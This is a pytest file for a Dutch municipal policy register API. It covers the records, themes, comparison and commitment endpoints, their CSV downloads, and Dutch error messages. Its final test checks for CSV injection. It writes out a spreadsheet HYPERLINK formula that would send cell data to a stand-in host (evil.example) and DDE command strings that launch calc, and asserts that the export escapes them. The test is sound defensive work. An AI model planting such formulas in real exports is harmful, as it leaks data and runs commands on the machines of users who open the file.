"""The register endpoints over a small real register: records, themes, compare, commitments.

The register is a `RegisterStore` at `settings.register_path`, filled by `add_register` with records
whose quotes stand on pages of real tiny PDFs; bad input must give a 4xx with one Dutch sentence.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.quotes import find_quote
from assistant.core import Assistant
from assistant.register.models import Provenance, Record
from assistant.register.store import RegisterStore
from assistant.register.themes import load_taxonomy
from assistant.settings import Settings
from assistant.types import DocumentMeta
from tests.api_support import DOC, OTHER_DOC, PLAN_DOC, add_register, fake_ingest

NO_INDICATORS = "Niets gevonden: geen indicatoren over jeugd in de documenten van Testdorp."


@pytest.fixture
def reg(settings: Settings, assistant: Assistant, tmp_path: Path) -> Iterator[TestClient]:
    add_register(assistant, tmp_path / "corpus")
    app = create_app(settings, assistant_factory=lambda s: assistant, ingest_factory=fake_ingest)
    with TestClient(app) as test_client:
        yield test_client


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_themes_list_the_taxonomy_and_who_writes_about_each(reg: TestClient) -> None:
    body = reg.get("/api/themes").json()
    assert [t["id"] for t in body["themes"]] == [t.id for t in load_taxonomy().themes]
    themes = {t["id"]: t for t in body["themes"]}
    assert themes["jeugd"]["label"] == "Jeugd" and themes["jeugd"]["description"]
    assert themes["jeugd"]["municipalities"] == ["Anderstad", "Testdorp"]
    assert themes["jeugd"]["records"] == 8
    assert themes["armoede-schulden"]["municipalities"] == ["Anderstad"]
    assert themes["onderwijs"] == {**themes["onderwijs"], "municipalities": [], "records": 0}
    assert body["municipalities"] == ["Anderstad", "Testdorp"]


def test_register_records_carry_provenance_that_the_page_endpoint_finds(reg: TestClient) -> None:
    body = reg.get("/api/register").json()
    assert body["count"] == 11 and body["note"] is None
    for record in body["records"]:
        prov = record["provenance"]
        assert {record["doc"], record["page"]} == {prov["doc"], prov["page"]}
        page = reg.get(f"/api/documents/{prov['doc']}/pages/{prov['page']}", params={"quote": prov["quote"]})
        assert page.json()["match"] is not None, record  # the quote stands on the page the UI opens
    budget = next(r for r in body["records"] if r["type"] == "budget" and r["doc"] == DOC)
    assert budget["municipality"] == "Testdorp" and budget["year"] == 2022
    assert budget["type_label"] == "begrotingsregel" and budget["detail"] == "2022: € 2.400.000"
    assert budget["amounts"] == [{"eur": 2_400_000.0, "year": 2022, "label": "2022", "measure": ""}]
    assert budget["themes"] == ["jeugd", "financien"] and "section" in budget


def test_register_filters_by_municipality_type_and_theme(reg: TestClient) -> None:
    body = reg.get("/api/register", params={"municipality": "anderstad", "type": "indicator"}).json()
    assert body["filters"] == {"municipality": "Anderstad", "type": "indicator", "theme": None}
    assert [r["text"] for r in body["records"]] == ["Aandeel jongeren met jeugdhulp"]
    indicator = body["records"][0]
    assert (indicator["baseline_value"], indicator["baseline_year"]) == ("12,1%", 2022)
    assert (indicator["target_value"], indicator["target_year"]) == ("10%", 2026)
    # A theme by its label, and a type in Dutch.
    jeugd = reg.get("/api/register", params={"theme": "Jeugd", "type": "toezegging"}).json()
    assert jeugd["filters"]["theme"] == "jeugd" and jeugd["filters"]["type"] == "measure"
    assert {r["doc"] for r in jeugd["records"]} == {DOC, PLAN_DOC}
    assert all("jeugd" in r["themes"] and r["type"] == "measure" for r in jeugd["records"])


def test_register_csv_is_a_download_with_sources(reg: TestClient) -> None:
    response = reg.get("/api/register", params={"municipality": "Testdorp", "format": "csv"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="register-testdorp.csv"'
    table = rows(response.text)
    assert table[0] == [
        "gemeente",
        "type",
        "omschrijving",
        "waarden",
        "thema's",
        "document",
        "pagina",
        "citaat",
    ]
    assert len(table) == 1 + 5 and {row[5] for row in table[1:]} == {DOC}
    budget = ["Testdorp", "begrotingsregel", "Jeugdhulp", "2022: € 2.400.000", "jeugd, financien", DOC, "2",
              "een budget van 2,4 miljoen euro"]  # fmt: skip
    assert budget in table


def test_register_bad_input_is_explained_in_dutch(reg: TestClient) -> None:
    bad_type = reg.get("/api/register", params={"type": "wens"})
    assert bad_type.status_code == 422
    assert bad_type.json()["detail"] == (
        "Ongeldige invoer in 'type': kies uit 'goal', 'indicator', 'budget' of 'measure'."
    )
    bad_format = reg.get("/api/register", params={"format": "xlsx"})
    assert bad_format.status_code == 422 and "'format'" in bad_format.json()["detail"]
    unknown_theme = reg.get("/api/register", params={"theme": "ruimtevaart"})
    assert unknown_theme.status_code == 404
    assert unknown_theme.json()["detail"].startswith(
        "Onbekend thema 'ruimtevaart'. Kies uit: armoede-schulden, jeugd"
    )
    nobody = reg.get("/api/register", params={"municipality": "Nergenshuizen"}).json()
    assert nobody["count"] == 0 and nobody["records"] == []
    assert nobody["note"].startswith("Geen documenten van Nergenshuizen in het register")
    nothing = reg.get("/api/register", params={"municipality": "Testdorp", "theme": "onderwijs"}).json()
    assert nothing["note"] == "Het register heeft niets dat aan deze filters voldoet."


def test_compare_puts_municipalities_side_by_side_with_sources(reg: TestClient) -> None:
    body = reg.get("/api/compare", params={"theme": "jeugd"}).json()
    assert body["theme"] == {"id": "jeugd", "label": "Jeugd"} and body["note"] is None
    assert body["municipalities"] == ["Anderstad", "Testdorp"]
    assert [(r["type"], r["label"]) for r in body["rows"]] == [
        ("goal", "Doelen"),
        ("indicator", "Indicatoren"),
        ("budget", "Budget (euro per jaar)"),
        ("measure", "Toezeggingen"),
    ]
    cells = {r["type"]: r["cells"] for r in body["rows"]}
    indicator = cells["indicator"]["Anderstad"]["items"][0]
    assert indicator["detail"] == "nulmeting 12,1% (2022); streefwaarde 10% (2026)"
    assert (indicator["doc"], indicator["page"]) == (PLAN_DOC, 1) and "12,1 procent" in indicator["quote"]
    assert cells["indicator"]["Testdorp"] == {"items": [], "empty": NO_INDICATORS, "more": 0}
    budgets = {m: c["items"][0]["detail"] for m, c in cells["budget"].items()}
    assert budgets == {"Anderstad": "2023: € 1.800.000 (structureel)", "Testdorp": "2022: € 2.400.000"}
    for row in body["rows"]:
        for cell in row["cells"].values():
            assert cell["items"] or cell["empty"]  # never a silent blank
            assert all(item["doc"] and item["page"] >= 1 and item["quote"] for item in cell["items"])


def test_compare_follows_the_requested_municipalities_and_limit(reg: TestClient) -> None:
    body = reg.get(
        "/api/compare", params={"theme": "Jeugd", "municipalities": "testdorp, Nergenshuizen,"}
    ).json()
    assert body["municipalities"] == ["Testdorp", "Nergenshuizen"]
    unknown = [row["cells"]["Nergenshuizen"] for row in body["rows"]]
    assert all(c == {"items": [], "empty": "Geen documenten van Nergenshuizen in het register.", "more": 0}
               for c in unknown)  # fmt: skip
    assert [(len(c["items"]), c["more"]) for c in (measure_cell(reg), measure_cell(reg, limit=1))] == [
        (2, 0),
        (1, 1),
    ]
    assert len(measure_cell(reg, limit=0)["items"]) == 2  # 0: everything, as the CSV export asks


def measure_cell(client: TestClient, **params: object) -> dict[str, Any]:
    body = client.get("/api/compare", params={"theme": "jeugd", **params}).json()
    return next(r for r in body["rows"] if r["type"] == "measure")["cells"]["Testdorp"]


def test_compare_csv_wide_and_long(reg: TestClient) -> None:
    response = reg.get("/api/compare", params={"theme": "jeugd", "format": "csv"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="vergelijking-jeugd.csv"'
    wide = rows(response.text)
    assert wide[0] == ["Thema: Jeugd", "Anderstad", "Testdorp"]
    assert [r[0] for r in wide[1:]] == ["Doelen", "Indicatoren", "Budget (euro per jaar)", "Toezeggingen"]
    assert wide[2][2] == NO_INDICATORS and f"({PLAN_DOC} p. 1)" in wide[2][1]
    long = rows(reg.get("/api/compare", params={"theme": "jeugd", "format": "csv", "long": "true"}).text)
    assert long[0] == ["type", "gemeente", "omschrijving", "waarden", "document", "pagina", "citaat"]
    assert [
        "budget",
        "Testdorp",
        "Jeugdhulp",
        "2022: € 2.400.000",
        DOC,
        "2",
        "een budget van 2,4 miljoen euro",
    ] in long


def test_compare_bad_input_is_explained_in_dutch(reg: TestClient) -> None:
    unknown = reg.get("/api/compare", params={"theme": "ruimtevaart"})
    assert unknown.status_code == 404
    detail = unknown.json()["detail"]
    assert detail.startswith("Onbekend thema 'ruimtevaart'. Kies uit: ")
    assert all(t.id in detail for t in load_taxonomy().themes) and "/api/themes" in detail
    for params in ({}, {"theme": "  "}):
        missing = reg.get("/api/compare", params=params)
        assert missing.status_code == 422
        assert missing.json()["detail"].startswith("Kies een thema: de parameter 'theme' is leeg.")
    crowd = reg.get(
        "/api/compare", params={"theme": "jeugd", "municipalities": ",".join(f"G{i}" for i in range(21))}
    )
    assert (
        crowd.status_code == 422
        and crowd.json()["detail"] == "Te veel gemeenten: vergelijk er hoogstens 20 tegelijk."
    )
    for params in ({"limit": -1}, {"limit": "veel"}, {"format": "pdf"}):
        bad = reg.get("/api/compare", params={"theme": "jeugd", **params})
        assert bad.status_code == 422 and bad.json()["detail"].startswith("Ongeldige invoer in ")


def test_commitments_show_later_follow_ups(reg: TestClient) -> None:
    body = reg.get("/api/commitments", params={"municipality": "anderstad"}).json()
    # Goals and measures, oldest document first: the 2021 promise, then the 2023 plan's own.
    assert body["municipality"] == "Anderstad" and body["count"] == 4 and body["note"] is None
    free, *latest = body["items"]
    assert (free["commitment"]["doc"], free["commitment"]["text"]) == (OTHER_DOC, "Schuldhulp blijft gratis")
    assert free["commitment"]["provenance"]["quote"] == "Schuldhulp blijft gratis."
    assert (free["status"], free["status_label"]) == ("on_schedule", "loopt (op schema)")  # "blijft"
    assert [(f["doc"], f["page"]) for f in free["later"]][:1] == [(PLAN_DOC, 2)]
    quote = free["later"][0]["quote"]
    assert quote.startswith("Schuldhulp blijft gratis, ook voor gezinnen")
    assert free["later_note"] is None
    # Both quotes stand on the pages the UI opens.
    for doc, page, text in ((OTHER_DOC, 1, "Schuldhulp blijft gratis."), (PLAN_DOC, 2, quote)):
        shown = reg.get(f"/api/documents/{doc}/pages/{page}", params={"quote": text}).json()
        assert shown["match"] is not None, text
    youth = latest[0]
    assert youth["status"] == "no_later" and youth["later"] == []
    assert youth["later_note"] == "Geen latere vermelding gevonden."

    response = reg.get("/api/commitments", params={"municipality": "Anderstad", "format": "csv"})
    assert response.headers["content-disposition"] == 'attachment; filename="toezeggingen-anderstad.csv"'
    table = rows(response.text)
    assert table[0][4] == "status" and table[1][4] == "loopt (op schema)"
    assert table[1][:2] == ["Schuldhulp blijft gratis", OTHER_DOC] and table[1][5:7] == [PLAN_DOC, "2"]


def test_commitments_are_built_once_until_a_document_changes(reg: TestClient, assistant: Assistant) -> None:
    first = reg.get("/api/commitments", params={"municipality": "Anderstad"}).json()
    second = reg.get("/api/commitments", params={"municipality": "anderstad"}).json()
    cache = reg.app.state.commitment_cache  # type: ignore[attr-defined]
    assert second == first and cache.builds == 1
    # An ingest publishes a document: the catalog's generation moves and the check is built again.
    record = assistant.catalog.document(PLAN_DOC)
    pages = assistant.catalog.pages(PLAN_DOC)
    assistant.catalog.publish(record.meta, "v2", "v2", record.path, pages, record.chunk_count)
    assert reg.get("/api/commitments", params={"municipality": "Anderstad"}).json() == first
    assert cache.builds == 2


def test_records_and_commitments_give_every_page_an_item_stands_on(
    reg: TestClient, assistant: Assistant, settings: Settings
) -> None:
    # A promise that stands twice in its document: the register keeps the second place in also_at.
    text = assistant.page(OTHER_DOC, 1).text
    again = "Anderstad houdt de lokale lasten gelijk."
    found = find_quote(text, again)
    assert found is not None
    store = RegisterStore(settings.register_path)
    try:
        meta = next(d.meta for d in store.documents() if d.meta.doc_id == OTHER_DOC)
        (promise,) = store.query(doc_id=OTHER_DOC)
        store.replace_document(meta, [promise.with_(also_at=(Provenance(OTHER_DOC, 1, again, *found),))])
    finally:
        store.close()
    place = {"doc": OTHER_DOC, "page": 1, "quote": again, "start": found[0], "end": found[1]}
    records = reg.get("/api/register", params={"municipality": "Anderstad", "type": "measure"}).json()
    listed = next(r for r in records["records"] if r["doc"] == OTHER_DOC)
    assert listed["also_at"] == [place]
    body = reg.get("/api/commitments", params={"municipality": "Anderstad"}).json()
    promised = next(i for i in body["items"] if i["commitment"]["doc"] == OTHER_DOC)
    assert promised["commitment"]["also_at"] == [place]
    # Items on one page only say so with an empty list.
    assert all(i["commitment"]["also_at"] == [] for i in body["items"] if i is not promised)


def test_commitments_unknown_or_missing_municipality(reg: TestClient) -> None:
    nobody = reg.get("/api/commitments", params={"municipality": "Nergenshuizen"}).json()
    assert nobody["count"] == 0 and nobody["note"].startswith(
        "Geen documenten van Nergenshuizen in het register"
    )
    missing = reg.get("/api/commitments")
    assert missing.status_code == 422 and missing.json()["detail"] == (
        "Ongeldige invoer in 'municipality': dit veld ontbreekt."
    )


def test_an_empty_register_says_so(client: TestClient, settings: Settings) -> None:
    body = client.get("/api/compare", params={"theme": "jeugd"}).json()
    assert body["municipalities"] == [] and body["rows"][0]["cells"] == {}
    assert body["note"].startswith("Het register is nog leeg")
    assert all(t["records"] == 0 for t in client.get("/api/themes").json()["themes"])
    assert settings.register_path.exists()  # opened on first use, at the configured path


def test_the_assistants_own_register_is_preferred(
    client: TestClient, assistant: Assistant, tmp_path: Path
) -> None:
    own = RegisterStore(tmp_path / "own.sqlite")
    meta = DocumentMeta("elders-plan-2024", "Elders", "Plan", 2024, "2024", "beleidsplan")
    quote = "Elders wil minder armoede."
    goal = Record("goal", quote, Provenance(meta.doc_id, 1, quote, 0, len(quote)), "Elders", 2024,
                  themes=("armoede-schulden",))  # fmt: skip
    own.replace_document(meta, [goal])
    assistant.register = own
    assert client.get("/api/themes").json()["municipalities"] == ["Elders"]


def test_openapi_documents_the_register_endpoints(client: TestClient) -> None:
    paths = client.get("/openapi.json").json()["paths"]
    assert {"/api/register", "/api/themes", "/api/compare", "/api/commitments"} <= set(paths)
    params = {p["name"] for p in paths["/api/compare"]["get"]["parameters"]}
    assert {"theme", "municipalities", "limit", "long", "format"} <= params


def test_csv_downloads_never_carry_a_formula(
    client: TestClient, assistant: Assistant, tmp_path: Path
) -> None:
    """Text from a hostile PDF, or a municipality name in a link someone was sent, must open in a
    spreadsheet as text (CSV injection); a plain negative budget figure stays a number."""
    own = RegisterStore(tmp_path / "own.sqlite")
    meta = DocumentMeta("kwaadstad-plan-2024", "Kwaadstad", "Plan", 2024, "2024", "beleidsplan")
    link = '=HYPERLINK("http://evil.example/?d="&A2,"Klik hier")'

    def record(kind: Any, text: str, quote: str, **kw: Any) -> Record:
        return Record(kind, text, Provenance(meta.doc_id, 1, quote, 0, len(quote)), "Kwaadstad", 2024,
                      themes=("jeugd",), **kw)  # fmt: skip

    own.replace_document(meta, [
        record("goal", link, "@SUM(1+1)*cmd|' /C calc'!A0"),
        record("budget", "-1.250", "-1.250"),
    ])  # fmt: skip
    assistant.register = own

    register = rows(client.get("/api/register", params={"format": "csv"}).text)
    goal = next(r for r in register if r[1] == "doel")
    assert goal[2] == "'" + link and goal[7] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    budget = next(r for r in register if r[1] == "begrotingsregel")
    assert budget[2] == budget[7] == "-1.250"

    params = {"theme": "jeugd", "format": "csv", "municipalities": "Kwaadstad,-2+3+cmd|' /C calc'!A0"}
    wide = rows(client.get("/api/compare", params=params).text)
    assert wide[0][1:] == ["Kwaadstad", "'-2+3+cmd|' /C calc'!A0"]
    long = rows(client.get("/api/compare", params={**params, "long": "true"}).text)
    assert ["goal", "Kwaadstad", "'" + link] in [r[:3] for r in long]
    for cell in (c for r in [*register, *wide, *long] for c in r):
        assert cell.lstrip()[:1] not in ("=", "+", "@") and (cell[:1] != "-" or cell == "-1.250"), cell
